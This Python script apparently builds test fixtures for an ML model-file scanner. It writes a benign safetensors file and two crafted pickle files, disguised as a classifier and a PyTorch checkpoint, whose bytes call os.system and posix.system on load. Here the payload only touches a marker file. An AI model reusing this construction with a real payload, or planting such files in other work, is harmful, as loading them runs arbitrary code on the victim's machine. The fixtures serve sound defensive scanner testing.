"""Write the example model files of insecure-ml. NEVER load the malicious ones.

    python examples/insecure-ml/models/make_models.py [OUTPUT_DIR]

The files are crafted byte by byte: nothing is pickled from live objects, nothing is
imported from torch, and nothing is ever unpickled. The output is deterministic (no
timestamps, fixed zip metadata), so running the script again reproduces the committed files.

- classifier.pkl      malicious: a raw pickle (protocol 2) that looks like a model's metadata
                      dict but calls os.system(...) through the GLOBAL opcode when loaded.
- checkpoint.pt       malicious: a PyTorch-style zip (checkpoint/data.pkl, checkpoint/version)
                      whose data.pkl reaches posix.system through STACK_GLOBAL.
- weights.safetensors benign: a tiny, valid safetensors file (two float32 tensors).

The payload would only create the marker file /tmp/mlgate-pwned-marker; mlgate must report
both malicious files without running them, so the marker never appears.
"""

from __future__ import annotations

import io
import json
import struct
import sys
import zipfile
from pathlib import Path

# What the payload would run if someone loaded the files (bytes: part of the crafted stream).
PAYLOAD = b"touch /tmp/mlgate-pwned-marker"

# Pickle opcodes used below (see the table in CPython's Lib/pickle.py).
PROTO = b"\x80"
GLOBAL = b"c"
STACK_GLOBAL = b"\x93"
SHORT_BINUNICODE = b"\x8c"
BINUNICODE = b"X"
BININT1 = b"K"
BINFLOAT = b"G"
EMPTY_DICT = b"}"
EMPTY_LIST = b"]"
MARK = b"("
SETITEMS = b"u"
APPENDS = b"e"
TUPLE1 = b"\x85"
REDUCE = b"R"
MEMOIZE = b"\x94"
BINPUT = b"q"
STOP = b"."

# Fixed zip metadata, so the archive's bytes do not depend on the clock or the platform.
ZIP_DATE = (1980, 1, 1, 0, 0, 0)
ZIP_MODE = 0o644 << 16
ZIP_UNIX = 3


def text(value: str) -> bytes:
    """A str in the short form protocol 4 uses (SHORT_BINUNICODE)."""
    raw = value.encode("utf-8")
    return SHORT_BINUNICODE + bytes([len(raw)]) + raw


def text2(value: str) -> bytes:
    """A str as protocol 2 writes it (BINUNICODE, 4-byte length)."""
    raw = value.encode("utf-8")
    return BINUNICODE + struct.pack("<I", len(raw)) + raw


def classifier_pickle() -> bytes:
    """{"model": "LogisticRegression", "classes": [0, 1], "threshold": 0.5,
    "calibration": os.system(PAYLOAD)} -- the last value is computed while loading."""
    call = GLOBAL + b"os\nsystem\n" + BINPUT + b"\x01"
    call += BINUNICODE + struct.pack("<I", len(PAYLOAD)) + PAYLOAD + TUPLE1 + REDUCE
    items = [
        text2("model") + text2("LogisticRegression"),
        text2("classes") + EMPTY_LIST + MARK + BININT1 + b"\x00" + BININT1 + b"\x01" + APPENDS,
        text2("threshold") + BINFLOAT + struct.pack(">d", 0.5),
        text2("calibration") + call,
    ]
    body = EMPTY_DICT + BINPUT + b"\x00" + MARK + b"".join(items) + SETITEMS
    return PROTO + b"\x02" + body + STOP


def checkpoint_pickle() -> bytes:
    """{"epoch": 12, "state_dict": posix.system(PAYLOAD)}, with the callable looked up by
    STACK_GLOBAL from two strings (how protocol 4 pickles name globals)."""
    call = text("posix") + MEMOIZE + text("system") + MEMOIZE + STACK_GLOBAL + MEMOIZE
    call += SHORT_BINUNICODE + bytes([len(PAYLOAD)]) + PAYLOAD + MEMOIZE
    call += TUPLE1 + MEMOIZE + REDUCE + MEMOIZE
    items = text("epoch") + MEMOIZE + BININT1 + bytes([12])
    items += text("state_dict") + MEMOIZE + call
    return PROTO + b"\x04" + EMPTY_DICT + MEMOIZE + MARK + items + SETITEMS + STOP


def zip_bytes(members: list[tuple[str, bytes]]) -> bytes:
    """A stored (uncompressed) zip, as torch.save writes it, with fixed metadata."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_STORED) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=ZIP_DATE)
            info.compress_type = zipfile.ZIP_STORED
            info.create_system = ZIP_UNIX
            info.external_attr = ZIP_MODE
            archive.writestr(info, data)
    return buffer.getvalue()


def checkpoint_zip() -> bytes:
    return zip_bytes(
        [
            ("checkpoint/data.pkl", checkpoint_pickle()),
            ("checkpoint/version", b"3\n"),
        ]
    )


def safetensors_bytes() -> bytes:
    """A 2x2 weight and a bias of a linear layer, float32 little-endian."""
    weight = struct.pack("<4f", 0.25, -0.5, 0.75, 1.0)
    bias = struct.pack("<2f", 0.0, 0.125)
    header = {
        "__metadata__": {"format": "pt"},
        "linear.weight": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, len(weight)]},
        "linear.bias": {
            "dtype": "F32",
            "shape": [2],
            "data_offsets": [len(weight), len(weight) + len(bias)],
        },
    }
    raw = json.dumps(header, separators=(",", ":"), sort_keys=True).encode("utf-8")
    raw += b" " * (-len(raw) % 8)  # the header is padded to 8 bytes, as safetensors writes it
    return struct.pack("<Q", len(raw)) + raw + weight + bias


FILES = {
    "classifier.pkl": classifier_pickle,
    "checkpoint.pt": checkpoint_zip,
    "weights.safetensors": safetensors_bytes,
}


def main(argv: list[str]) -> int:
    out = Path(argv[1]) if len(argv) > 1 else Path(__file__).resolve().parent
    out.mkdir(parents=True, exist_ok=True)
    for name, build in FILES.items():
        (out / name).write_bytes(build())
        print(f"wrote {out / name}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
